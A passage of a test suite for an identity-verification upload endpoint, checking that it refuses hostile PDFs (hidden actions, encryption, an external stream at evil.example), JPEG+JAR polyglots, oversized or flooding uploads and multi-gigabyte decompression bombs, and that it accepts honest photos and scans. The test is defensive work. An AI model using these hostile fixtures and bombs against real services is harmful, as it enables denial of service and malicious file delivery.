      { what: 'an object hidden inside an image stream (an xref offset may point there)', bytes: bill({ catalog: '/OpenAction [3 0 R /Fit]', more: [{ dictionary: '/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray', data: Buffer.concat([Buffer.alloc(32), latin1(hidden), Buffer.alloc(32)]) }] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'a trailer hidden inside a stream', bytes: bill({ more: [{ dictionary: '', data: 'trailer << /Root 1 0 R /OpenAction << /S /Named /N /Print >> >>' }] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'a fake stream keyword inside a string, hiding an action behind it', bytes: bill({ catalog: '/Title (x>> stream\n) /OpenAction << /S /Named /N /Print >> /Subject (endstream)' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'stream data in an external file', bytes: bill({ more: [{ dictionary: '/F (https://evil.example/payload) /FFilter /FlateDecode', data: '' }] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'an encrypted PDF', bytes: bill({ trailer: '/Encrypt 6 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]', more: ['<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -1028 >>'] }), expect: 'encrypted', name: 'bill.pdf' },
      { what: 'an encrypted PDF with the name escaped', bytes: bill({ trailer: '/Encr#79pt 6 0 R', more: ['<< /Filter /Standard /V 5 /R 6 >>'] }), expect: 'encrypted', name: 'bill.pdf' },
      { what: 'a stream under a crypt filter', bytes: bill({ more: [{ dictionary: '/Filter /Crypt /DecodeParms << /Name /StdCF >>', data: 'ciphertext' }] }), expect: 'encrypted', name: 'bill.pdf' },
    ]);
    // In French too.
    const who = await player();
    const form = new FormData();
    form.set('kind', 'proof_of_address');
    form.set('file', new File([new Uint8Array(bill({ trailer: '/Encrypt 6 0 R', more: ['<< /Filter /Standard >>'] }))], 'facture.pdf', { type: 'application/pdf' }));
    const answer = await t.call('verification/upload', { body: form, headers: as(who), query: { locale: 'fr' } });
    expect(answer.json.error?.fields).toEqual({ file: 'Ce PDF est chiffré ou protégé par un mot de passe et ne peut pas être vérifié : envoyez une copie non protégée ou une photo du document' });
  });
});

describe('oversized bodies and many files', () => {
  it('refuses a declared length over the limit before reading, and a streamed body without a length once it passes the limit', async () => {
    const who = await registerPlayer(t, { tag: 'kyc-oversize' });
    const before = filesOnDisk();
    const declared = await t.app.request(`${TEST_ORIGIN}/api/verification/upload`, {
      method: 'POST',
      headers: { ...as(who), 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(LIMIT + 1024 * 1024) },
      body: '--x--',
    });
    expect(declared.status).toBe(413);
    expect(((await declared.json()) as { error: unknown }).error).toMatchObject({ type: 'InvalidParameterException', fields: { file: TEXT.tooLarge } });

    // An endless body with no Content-Length (and one lying about it): it is read only up to the limit.
    for (const lie of [null, '2048']) {
      let pulled = 0;
      const head = latin1('--b\r\nContent-Disposition: form-data; name="kind"\r\n\r\nidentity_front\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff');
      const chunk = new Uint8Array(64 * 1024).fill(0x41);
      const body = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (pulled === 0) controller.enqueue(new Uint8Array(head));
          pulled += chunk.length;
          if (pulled > 1024 * MiB) controller.close();
          else controller.enqueue(chunk);
        },
      });
      const started = performance.now();
      const streamed = await t.app.request(`${TEST_ORIGIN}/api/verification/upload`, {
        method: 'POST',
        headers: { ...as(who), 'content-type': 'multipart/form-data; boundary=b', ...(lie ? { 'content-length': lie } : {}) },
        body,
        duplex: 'half',
      } as RequestInit);
      expect(streamed.status, `content-length ${lie}`).toBe(413);
      expect(((await streamed.json()) as { error: unknown }).error).toMatchObject({ type: 'InvalidParameterException', fields: { file: TEXT.tooLarge } });
      expect(pulled, 'read no further than the limit').toBeLessThan(LIMIT + 4 * MiB);
      expect(performance.now() - started).toBeLessThan(5000);
    }
    expect(await rowsOf(who)).toEqual([]);
    expect(filesOnDisk()).toEqual(before);
  });

  it('refuses many files in one body past the limit, and stores none of many hostile files within it', async () => {
    const who = await registerPlayer(t, { tag: 'kyc-many' });
    const before = filesOnDisk();
    const jpeg = await photo();
    const encode = async (form: FormData) => {
      const request = new Request(TEST_ORIGIN, { method: 'POST', body: form });
      return t.app.request(`${TEST_ORIGIN}/api/verification/upload`, {
        method: 'POST',
        body: new Uint8Array(await request.arrayBuffer()),
        headers: { ...as(who), 'content-type': request.headers.get('content-type')! },
      });
    };
    const many = new FormData();
    many.set('kind', 'identity_front');
    for (let index = 0; index < 200; index++) many.append('file', new File([new Uint8Array(Buffer.concat([jpeg, Buffer.alloc(64 * 1024 - jpeg.length)]))], `p${index}.jpg`, { type: 'image/jpeg' }));
    const tooMany = await encode(many);
    expect(tooMany.status).toBe(413);
    expect(((await tooMany.json()) as { error: unknown }).error).toMatchObject({ type: 'InvalidParameterException', fields: { file: TEXT.tooLarge } });

    // Many polyglots within the limit, under the file field and others: none is stored.
    const hostile = new FormData();
    hostile.set('kind', 'identity_front');
    for (let index = 0; index < 40; index++) {
      const polyglot = new Uint8Array(Buffer.concat([jpeg, JAR()]));
      hostile.append(index % 2 ? 'file' : `file_${String.fromCharCode(97 + (index % 26))}`, new File([polyglot], `p${index}.jpg`, { type: 'image/jpeg' }));
    }
    // Several files under one field are refused as such (one file per field: the others would go
    // unchecked), before any is looked at.
    const refused = await encode(hostile);
    expect(refused.status).toBe(422);
    expect(((await refused.json()) as { error: unknown }).error).toMatchObject({ type: 'InvalidParameterException', fields: { file: 'Wrong value' } });
    // One polyglot under the field, the rest under other names (which the method does not read): the one is refused as unsafe.
    const single = new FormData();
    single.set('kind', 'identity_front');
    single.append('file', new File([new Uint8Array(Buffer.concat([jpeg, JAR()]))], 'p.jpg', { type: 'image/jpeg' }));
    for (let index = 0; index < 20; index++) single.append(`file_${String.fromCharCode(97 + index)}`, new File([new Uint8Array(Buffer.concat([jpeg, JAR()]))], `p${index}.jpg`, { type: 'image/jpeg' }));
    const unsafe = await encode(single);
    expect(unsafe.status).toBe(422);
    expect(((await unsafe.json()) as { error: unknown }).error).toMatchObject({ type: 'InvalidParameterException', fields: { file: TEXT.unsafe } });
    expect(await rowsOf(who)).toEqual([]);
    expect(filesOnDisk()).toEqual(before);
  });

  it('answers a flood of uploads at once without storing any hostile file, the rate limit cutting it short', async () => {
    const who = await registerPlayer(t, { tag: 'kyc-flood' });
    const before = filesOnDisk();
    const polyglot = Buffer.concat([await photo(), JAR()]);
    const hour = () => Math.floor(Date.now() / 3_600_000);
    const started = hour();
    const answers = await Promise.all(Array.from({ length: 36 }, () => upload(who, polyglot, 'id.jpg', 'image/jpeg')));
    const types = answers.map((answer) => answer.json.error?.type);
    const refused = types.filter((type) => type === 'InvalidParameterException').length;
    expect(refused + types.filter((type) => type === 'TooManyRequestsException').length).toBe(36);
    // 30 an hour (the limit's window is the clock hour: a run across its end may see more).
    if (hour() === started) expect(refused).toBe(30);
    expect(await rowsOf(who)).toEqual([]);
    expect(filesOnDisk()).toEqual(before);
  });
});

describe('decompression bombs', () => {
  it('refuses each bomb quickly, without inflating it', async () => {
    const jpeg = await photo();
    const frame = markerPositions(jpeg, 0xc0)[0];
    const hugeJpeg = Buffer.from(jpeg);
    hugeJpeg.writeUInt16BE(65000, frame + 5);
    hugeJpeg.writeUInt16BE(65000, frame + 7);
    const scan = markerPositions(jpeg, 0xda)[0];
    const end = jpeg.length - 2;
    const manyScans = Buffer.concat([jpeg.subarray(0, scan), ...new Array<Buffer>(150).fill(jpeg.subarray(scan, end)), jpeg.subarray(end)]);
    const gigabytes = deflateBomb(4096 * MiB);
    expect(gigabytes.length).toBeLessThan(LIMIT - 64 * 1024);
    const iend = pngChunk('IEND', '');

    const before = process.resourceUsage().maxRSS;
    const took = await expectRefused([
      { what: 'a PNG declaring 50000x50000', bytes: Buffer.concat([PNG_SIGNATURE, ihdr(50000, 50000), pngChunk('IDAT', flate(Buffer.alloc(1024))), iend]), name: 'id.png', type: 'image/png', expect: 'tooManyPixels' },
      { what: 'a PNG whose pixel data inflates to 4 GiB', bytes: Buffer.concat([PNG_SIGNATURE, ihdr(1000, 1000), pngChunk('IDAT', gigabytes), iend]), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a PNG whose zTXt chunk inflates to 4 GiB', bytes: withChunks(await png(), pngChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), gigabytes]))), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a JPEG declaring 65000x65000', bytes: hugeJpeg, expect: 'tooManyPixels' },
      { what: 'a JPEG with 150 scans', bytes: manyScans, expect: 'unsafe' },
      { what: 'a PDF whose page content inflates to 4 GiB', bytes: pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', { dictionary: '/Filter /FlateDecode', data: gigabytes }]), name: 'bill.pdf', expect: 'unsafe' },
      { what: 'a PDF image declaring 100000x100000', bytes: bill({ more: [{ dictionary: '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode', data: flate(Buffer.alloc(1024)) }] }), name: 'bill.pdf', expect: 'tooManyPixels' },
      { what: 'a 100x100 PDF image whose data inflates to 4 GiB', bytes: bill({ more: [{ dictionary: '/Type /XObject /Subtype /Image /Width 100 /Height 100 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode', data: gigabytes }] }), name: 'bill.pdf', expect: 'unsafe' },
    ]);
    for (const [what, ms] of took) expect(ms, what).toBeLessThan(3000);
    // maxRSS is in KiB: the 4 GiB bombs never came near memory.
    expect((process.resourceUsage().maxRSS - before) / 1024, 'MiB of peak memory added').toBeLessThan(256);
  });
});

describe('honest documents', () => {
  it('accepts ordinary photos and scans, and stores them without their metadata', async () => {
    const xmp = '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="Camera 1.0"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
    const camera = await noisyPhoto(800, 600)
      .withExif({ IFD0: { Make: 'Phone', Model: 'Camera', Copyright: 'GPS-SECRET-HOME-ADDRESS' } })
      .withIccProfile('srgb')
      .withXmp(xmp)
      .jpeg({ quality: 88, progressive: true })
      .toBuffer();
    const commented = withSegments(camera, jpegSegment(0xfe, latin1('CREATOR: gd-jpeg v1.0 (using IJG JPEG v80), quality = 90\n')));
    const stored = (await expectAccepted('a camera photo', commented, 'IMG_0001.jpg', 'image/jpeg')).stored;
    expect(stored.includes('GPS-SECRET-HOME-ADDRESS')).toBe(false);
    expect(stored.includes('gd-jpeg')).toBe(false);

    // A phone's multi-picture JPEG: a second image (a gain map) after the first.
    const gainMap = await noisyPhoto(200, 150).jpeg().toBuffer();
    await expectAccepted('a JPEG with a gain map image after it', Buffer.concat([await noisyPhoto(400, 300).jpeg().toBuffer(), gainMap]), 'IMG_0002.jpg', 'image/jpeg');

    const scan = await noisyPhoto(620, 877).greyscale().png({ compressionLevel: 6 }).toBuffer();
    const annotated = withChunks(
      scan,
      pngChunk('tEXt', 'Software\0Epson Scan 2'),
      pngChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), flate('Scanned at 150 dpi, A4')])),
      pngChunk('iTXt', Buffer.concat([latin1('XML:com.adobe.xmp\0\x01\0\0\0'), flate(xmp)])),
    );
    const storedScan = (await expectAccepted('a scanned page', annotated, 'scan.png', 'image/png', 'proof_of_address')).stored;
    expect(storedScan.includes('Epson')).toBe(false);

    for (const [what, image] of [
      ['an interlaced PNG', await noisyPhoto(333, 211).png({ progressive: true }).toBuffer()],
      ['a 16-bit PNG with alpha', await noisyPhoto(257, 129).ensureAlpha().toColourspace('rgb16').png().toBuffer()],
      ['a palette PNG', await noisyPhoto(301, 203).png({ palette: true, colours: 16 }).toBuffer()],
      ['a two-colour PNG', await noisyPhoto(199, 97).png({ palette: true, colours: 2 }).toBuffer()],
      ['a grey PNG with alpha', await noisyPhoto(120, 90).greyscale().ensureAlpha().png().toBuffer()],
    ] as const) {
      await expectAccepted(what, image, 'id.png', 'image/png');
    }
  });

  it('accepts ordinary PDFs: text, links, a page to open on, object streams, images whose bytes spell names', async () => {
    const photoBytes = await noisyPhoto(600, 400).jpeg({ quality: 90 }).toBuffer();
    // Compressed pixels are random: honest ones spell `/JS `, `/AA>` or `<svg` now and then.
    const unlucky = Buffer.concat([photoBytes.subarray(0, 2000), latin1('/JS /AA>/Launch <svg <html'), photoBytes.subarray(2000)]);
    const gray = Buffer.alloc(64 * 48, 0xee);
    const libreOffice = bill({
      catalog: '/OpenAction[3 0 R /XYZ null null 0] /Lang(en-GB) /AcroForm << /Fields [8 0 R] /DA (/Helv 0 Tf 0 g) >>',
      page: '/Annots [6 0 R 7 0 R 8 0 R] /Resources << /XObject << /Im1 9 0 R /Im2 10 0 R >> >>',
      trailer: `/Info << /Title <feff${Buffer.from('Facture d’électricité', 'utf16le').swap16().toString('hex')}> /Producer (LibreOffice 7.5) >> /ID [<a1b2> <a1b2>]`,
      more: [
        '<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /Border [0 0 0] /A << /Type /Action /S /URI /URI (https://www.edf.fr/mon-espace?ref=bill) >> >>',
        '<< /Type /Annot /Subtype /Link /Rect [72 680 200 692] /A << /S /URI /URI (mailto:service@edf.fr) >> /Dest [3 0 R /XYZ 0 842 0] >>',
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (account) /V (123456) /Rect [72 600 200 620] >>',
        { dictionary: '/Type /XObject /Subtype /Image /Width 600 /Height 400 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode', data: unlucky },
        { dictionary: '/Type /XObject /Subtype /Image /Width 64 /Height 48 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 64 >>', data: flate(predictedRows(gray, 64)) },
      ],
    });
    // LaTeX: the open action a GoTo in an object stream, the catalog's entries there too.
    const latex = (() => {
      const stream = objectStreamText(['<< /S /GoTo /D [3 0 R /Fit] >>', '<< /Type /Metadata >>'], 7);
      return bill({ catalog: '/OpenAction 7 0 R /PageMode /UseOutlines', more: [{ dictionary: `/Type /ObjStm /N 2 /First ${stream.header} /Filter /FlateDecode`, data: flate(stream.text) }] });
    })();
    for (const [what, document] of [
      ['a plain PDF', bill()],
      ['a LibreOffice-like PDF (open on page 1, links, a form field, images)', libreOffice],
      ['a LaTeX-like PDF (GoTo open action in an object stream)', latex],
      ['a PDF with an LZW content stream', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', { dictionary: '/Filter /LZWDecode', data: lzwEncode(latin1(CONTENT)) }])],
      ['a PDF with an incremental update', Buffer.concat([bill(), latin1('6 0 obj\n<< /Type /Annot /Subtype /Text /Contents (Paid) /Rect [0 0 10 10] >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 7 >>\n%%EOF\n')])],
    ] as const) {
      const { stored } = await expectAccepted(what, document, 'bill.pdf', 'application/pdf', 'proof_of_address');
      expect(stored.equals(document), `${what} stored as sent`).toBe(true);
    }
  });
});

describe('the inspector', () => {
  it('reads LZW as viewers do', () => {
    const text = latin1(`${CONTENT} ${'abcabcabc'.repeat(200)} ${JS_ACTION}`);
    expect(lzwDecode(lzwEncode(text), 1 << 20).bytes.equals(text)).toBe(true);
  });

  it('stops inflating an 8 GiB bomb at its budget', async () => {
    const bomb = pdf(['<< /Type /Catalog /Pages 2 0 R >>', { dictionary: '/Filter /FlateDecode', data: deflateBomb(8192 * MiB) }]);
    const started = performance.now();
    await expect(inspectDocument(bomb)).rejects.toMatchObject({ problem: 'unsafe' });
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
